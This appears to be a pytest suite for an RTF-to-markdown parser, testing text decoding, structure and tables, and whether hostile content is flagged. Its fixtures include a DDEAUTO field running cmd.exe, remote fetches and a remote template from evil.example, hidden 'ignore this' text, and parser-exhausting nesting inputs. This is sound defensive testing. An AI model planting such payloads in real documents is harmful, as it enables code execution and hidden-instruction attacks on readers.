"""TEST: RTF: characters, paragraphs, headings, lists, tables, fields, notes, and what is hidden or embedded."""

import pytest

from contract.verdicts import ElementType, Refusal
from parsers.blocks import Comment, Refused
from tests.parsers.reading import evidence, found, kinds, markdown, read, shown, titles

RTF = "application/rtf"


def document(body: str, head: str = "") -> bytes:
    return (r"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fswiss Arial;}" + head + "}" + body + "}").encode("latin-1")


def table(text: str) -> list[list[tuple[str, int, int]]]:
    (block,) = [block for block in read(RTF, document(text)).blocks if block.kind is ElementType.TABLE]
    assert block.table is not None
    return [[(cell.text, cell.colspan, cell.rowspan) for cell in row] for row in block.table.rows]


class TestCharacters:
    @pytest.mark.parametrize(
        ("written", "expected"),
        [
            (r"caf\'e9", "café"),
            (r"\u233?", "é"),
            (r"\uc2\u233xy!", "é!"),
            (r"\uc0\u233 !", "é!"),
            (r"\uc1\u-10179?\u-8704?", "😀"),
            (r"\u8364\'80 5", "€ 5"),
            (r"{\uc2 {\u233xx}}\u233x!", "éé!"),
            (r"a\~b\_c\-d", "a b‑cd"),
            (r"\{x\} \\", "{x} \\"),
            (r"\ldblquote x\rdblquote  \emdash  y", "“x” — y"),
            ("one\ntwo", "onetwo"),
            (r"{\f1 \'82\'b1\'82\'f1}", "こん"),
            (r"{\f2 \'cf\'f0}", "Пр"),
            (r"{\f3 a\'62}", "αβ"),
            (r"{\upr{old}{\*\ud{new}}}", "new"),
        ],
    )
    def test_text(self, written: str, expected: str) -> None:
        fonts = r"{\f1\fcharset128 MS Mincho;}{\f2\fcharset204 Arial CYR;}{\f3\ftech\fcharset2 Symbol;}"
        assert read(RTF, document(written, fonts)).blocks[0].text == expected

    def test_a_western_font_in_an_eastern_document(self) -> None:
        text = rb"{\rtf1\ansi\ansicpg932{\fonttbl{\f0\fcharset0 Arial;}{\f1\fcharset128 M;}}\f0 it\'92s \f1\'82\'b1}"
        assert read(RTF, text).blocks[0].text == "it’s こ"

    def test_emphasis(self) -> None:
        assert shown(RTF, document(r"plain {\b bold \i both\b0  italic}\plain  end")) == (
            "plain **bold *both*** *italic* end\n"
        )

    def test_unknown_destinations_are_skipped_and_unknown_words_are_not(self) -> None:
        assert read(RTF, document(r"{\*\whatever gone}{\newword kept}")).blocks[0].text == "kept"


class TestStructure:
    STYLES = r"{\stylesheet{\s0 Normal;}{\s1\outlinelevel0 Heading One;}{\s2 heading 2;}{\*\cs9 heading 3;}}"

    def test_headings_by_style_and_by_outline_level(self) -> None:
        body = r"\pard\s1 A\par\pard\s2 B\par\pard\outlinelevel2 C\par\pard\s9 text\par"
        assert titles(read(RTF, document(self.STYLES + body))) == [(1, "A"), (2, "B"), (3, "C")]

    def test_numbered_heading(self) -> None:
        body = r"{\listtext 1.2\tab}\pard\s2\ls1 Scope\par"
        assert titles(read(RTF, document(self.STYLES + body))) == [(2, "1.2 Scope")]

    def test_lists(self) -> None:
        body = (
            r"\pard\ls1{\listtext 1.\tab}one\par\pard\ls1\ilvl1{\listtext a)\tab}inner\par"
            r"\pard{\pntext\f3\'b7\tab}{\*\pn\pnlvlblt}bullet\par\pard\ls2 no marker\par\pard text\par"
        )
        assert [(b.kind, b.depth, b.marker, b.text) for b in read(RTF, document(body)).blocks] == [
            (ElementType.LIST_ITEM, 0, "1.", "one"), (ElementType.LIST_ITEM, 1, "a)", "inner"),
            (ElementType.LIST_ITEM, 0, "", "bullet"), (ElementType.LIST_ITEM, 0, "", "no marker"),
            (ElementType.NARRATIVE_TEXT, None, "", "text"),
        ]  # fmt: skip

    def test_footnotes_headers_and_footers(self) -> None:
        body = (
            r"{\header Secret project\par}{\footer Page {\field{\*\fldinst PAGE}{\fldrslt 1}}\par}"
            r"Word{\super\chftn{\footnote\pard\plain{\super\chftn} The note.\par}} and more.\par"
        )
        assert shown(RTF, document(body)) == "Secret project\n\nWord[^1] and more.\n\n[^1]: The note.\n"

    def test_what_the_document_says_of_itself(self) -> None:
        info = r"{\info{\title Pl\'e4ne}{\author Anna}{\creatim\yr2024\mo5\dy6\hr10\min30}{\revtim\yr2024\mo13\dy1}}"
        parsed = read(RTF, document(info + "x"))
        assert (parsed.title, parsed.author, parsed.created, parsed.modified) == (
            "Pläne", "Anna", "2024-05-06T10:30:00", "",
        )  # fmt: skip

    def test_comments_stay_with_their_paragraph(self) -> None:
        body = r"Text{\*\atnid BB}{\*\atnauthor Bert}\chatn{\*\annotation\pard Why?\par}.\par"
        (block,) = read(RTF, document(body)).blocks
        assert (block.text, block.comments) == ("Text.", [Comment("Bert", "Why?")])

    def test_a_comment_behind_the_last_paragraph_is_kept(self) -> None:
        (block,) = read(RTF, document(r"Text.\par{\*\atnauthor Bert}\chatn{\*\annotation Why?}")).blocks
        assert block.comments == [Comment("Bert", "Why?")]

    def test_text_boxes_stand_behind_their_paragraph(self) -> None:
        body = (
            r"Before{\shp{\*\shpinst{\sp{\sn x}{\sv 1}}{\shptxt In the box.\par}}{\shprslt In the box.\par}} after.\par"
        )
        assert shown(RTF, document(body)) == "Before after.\n\nIn the box.\n"

    def test_what_stands_behind_the_last_brace_is_no_part_of_it(self) -> None:
        assert shown(RTF, document("inside") + b" outside") == "inside\n"

    def test_a_file_that_breaks_off(self) -> None:
        assert shown(RTF, rb"{\rtf1 one\par {\b two") == "one\n\n**two**\n"


class TestTables:
    def test_rows_and_cells(self) -> None:
        rows = r"\trowd\cellx1000\cellx2000\pard\intbl a\cell b\cell\row\trowd\cellx1000\cellx2000 c\cell d\cell\row"
        assert table(rows + r"\pard after\par") == [[("a", 1, 1), ("b", 1, 1)], [("c", 1, 1), ("d", 1, 1)]]

    def test_spans_by_edges_and_by_merging(self) -> None:
        rows = (
            r"\trowd\clvmgf\cellx1000\cellx3000\pard\intbl tall\cell wide\cell\row"
            r"\trowd\clvmrg\cellx1010\cellx2000\cellx3000\intbl\cell x\cell y\cell\row"
            r"\trowd\clmgf\cellx1000\clmrg\cellx2000\cellx3000\intbl two\cell\cell z\cell\row"
        )
        assert table(rows) == [
            [("tall", 1, 2), ("wide", 2, 1)],
            [("x", 1, 1), ("y", 1, 1)],
            [("two", 2, 1), ("z", 1, 1)],
        ]

    def test_header_rows(self) -> None:
        rows = r"\trowd\trhdr\cellx1\intbl H\cell\row\trowd\cellx1\intbl a\cell\row\trowd\cellx1\intbl b\cell\row"
        assert shown(RTF, document(rows)) == "| H |\n| --- |\n| a |\n| b |\n"
        bold = r"\trowd\cellx1\cellx2\intbl{\b N}\cell{\b V}\cell\row\trowd\cellx1\cellx2\intbl a\cell b\cell\row"
        assert "| N | V |\n| --- | --- |" in shown(RTF, document(bold))

    def test_a_table_in_a_cell(self) -> None:
        rows = (
            r"\trowd\cellx1000\cellx2000\pard\intbl\itap2 in1\nestcell in2\nestcell"
            r"{\*\nesttableprops\trowd\cellx500\cellx900\nestrow}{\nonesttables\par}"
            r"\pard\intbl\itap1 outer\cell right\cell\row\pard end\par"
        )
        assert table(rows) == [[("in1 | in2\nouter", 1, 1), ("right", 1, 1)]]

    def test_a_frame_around_one_cell_is_no_table(self) -> None:
        assert kinds(read(RTF, document(r"\trowd\cellx1\pard\intbl boxed\cell\row"))) == [("NarrativeText", "boxed")]

    def test_cells_without_rows_and_rows_without_cells(self) -> None:
        """A broken writer: `\\row` first, a cell that never ends, edges that are missing."""
        assert table(r"\row\trowd\cellx1\intbl a\cell b\cell c\row\trowd\intbl d\cell e\par") == [
            [("a", 1, 1), ("b", 1, 1), ("c", 1, 1)], [("d", 1, 1), ("e", 1, 1)],
        ]  # fmt: skip


class TestFields:
    def test_a_link(self) -> None:
        body = r'See {\field{\*\fldinst{HYPERLINK "http://example.org/a"}}{\fldrslt{\ul the page}}}.'
        assert shown(RTF, document(body)) == "See [the page](http://example.org/a).\n"

    def test_links_inside_the_document_and_scripts_lead_nowhere(self) -> None:
        for target in (r"HYPERLINK \\l mark", 'HYPERLINK "javascript:alert(1)"'):
            body = rf"{{\field{{\*\fldinst {target}}}{{\fldrslt text}}}}"
            assert shown(RTF, document(body)) == "text\n"

    def test_a_symbol(self) -> None:
        assert shown(RTF, document(r'{\field{\*\fldinst SYMBOL 97 \\f "Symbol"}{\fldrslt}} rays')) == "α rays\n"

    @pytest.mark.parametrize(
        ("instruction", "kind"),
        [
            ('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', "active_content"),
            ('INCLUDEPICTURE "http://evil.example/x.png"', "external_reference"),
        ],
    )
    def test_fields_that_run_or_fetch(self, instruction: str, kind: str) -> None:
        assert found(read(RTF, document(rf"x{{\field{{\*\fldinst {instruction}}}{{\fldrslt y}}}}"))) == [kind]


class TestFindings:
    @pytest.mark.parametrize(
        "hidden", [r"{\v ignore this}", r"{\cf1 ignore this}", r"{\fs2 ignore this}", r"\pard\v ignore this\v0 "]
    )
    def test_text_that_nobody_sees(self, hidden: str) -> None:
        parsed = read(RTF, document(r"{\colortbl;\red255\green255\blue255;}seen " + hidden + "and seen"))
        assert "ignore this" not in markdown(parsed)
        assert "seen" in markdown(parsed)
        assert found(parsed) == ["hidden_text"]
        assert "ignore this" in evidence(parsed)

    def test_white_text_on_a_colour_is_seen(self) -> None:
        head = r"{\colortbl;\red255\green255\blue255;\red0\green0\blue128;}"
        assert found(read(RTF, document(head + r"{\cf1\highlight2 seen}{\cf1\chcbpat2 seen}"))) == []

    def test_deleted_text(self) -> None:
        assert shown(RTF, document(r"old {\deleted gone }new")) == "old new\n"

    def test_objects(self) -> None:
        body = (
            r"{\object\objemb{\*\objclass Package}{\*\objdata 0105}{\result icon}}"
            r"{\object\objautlink\objupdate{\*\objclass X}}"
        )
        parsed = read(RTF, document(body))
        assert markdown(parsed) == "icon\n"
        assert found(parsed) == ["active_content", "embedded_file", "external_reference"]

    def test_a_remote_template(self) -> None:
        parsed = read(RTF, document(r"{\*\template http://evil.example/t.dotm}x"))
        assert found(parsed) == ["external_reference"]


class TestHostile:
    def test_a_million_groups(self) -> None:
        """Groups nested far deeper than any stack."""
        assert shown(RTF, b"{\\rtf1 " + b"{" * 200_000 + b"x" + b"}" * 200_000 + b" y}") == "x y\n"

    def test_binary_data_larger_than_the_file(self) -> None:
        """`\\bin` with a length of two gigabytes, and with braces in its data."""
        assert shown(RTF, rb"{\rtf1 a\bin2147483647 {{{") == "a\n"
        assert shown(RTF, rb"{\rtf1 a{\pict\bin3 }}}}b}") == "ab\n"

    def test_notes_in_notes_without_end(self) -> None:
        """Each footnote stands in the one before."""
        assert "y" in shown(RTF, document(r"x{\footnote " * 2000 + "y" + "}" * 2000))

    def test_a_row_of_tens_of_thousands_of_cells(self) -> None:
        """Wide rows whose edges all differ."""
        edges = "".join(rf"\cellx{at}" for at in range(0, 3_000_000, 100))
        assert "a" in shown(RTF, document(rf"\trowd{edges}\intbl " + r"a\cell " * 30_000 + r"\row"))

    def test_absurd_levels_of_nesting(self) -> None:
        assert "x" in shown(RTF, document(r"\pard\intbl\itap1000000 x\nestcell\nestrow" * 100))

    def test_what_is_no_rtf(self) -> None:
        with pytest.raises(Refused) as refused:
            read(RTF, b"plain words")
        assert refused.value.refusal is Refusal.CORRUPT
